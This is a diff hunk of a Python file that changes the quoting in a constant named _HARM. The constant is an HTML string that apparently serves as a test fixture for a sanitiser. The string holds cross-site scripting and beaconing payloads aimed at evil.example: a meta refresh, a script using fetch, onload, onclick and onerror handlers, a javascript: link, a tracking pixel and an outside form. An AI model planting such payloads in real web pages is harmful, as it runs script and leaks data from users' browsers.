@@ -24,10 +24,10 @@ _HARM = (
     '<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">'
     '<script>document.title="script";fetch("https://evil.example/script")</script>'
     '<link rel="stylesheet" href="https://evil.example/style.css"></head>'
-    '<body onload="parent.document.title=1;fetch(\'https://evil.example/onload\')">'
+    "<body onload=\"parent.document.title=1;fetch('https://evil.example/onload')\">"
     '<p><a href="https://www.example.com/offer" onclick="fetch(\'https://evil.example/click\')">'
     "&lt;img src=x onerror=alert(1)&gt; the offer</a></p>"
-    '<p><a href="javascript:fetch(\'https://evil.example/javascript\')">no</a></p>'
+    "<p><a href=\"javascript:fetch('https://evil.example/javascript')\">no</a></p>"
     '<p><a href="https://www.example.com/polar">polar</a> <a href="https://www.example.com/polar">again</a></p>'
     '<img src="https://evil.example/pixel.gif" width="40" height="20" alt="pixel" onerror="fetch(\'https://evil.example/error\')">'
     '<form action="https://evil.example/form"><button>send</button></form>'
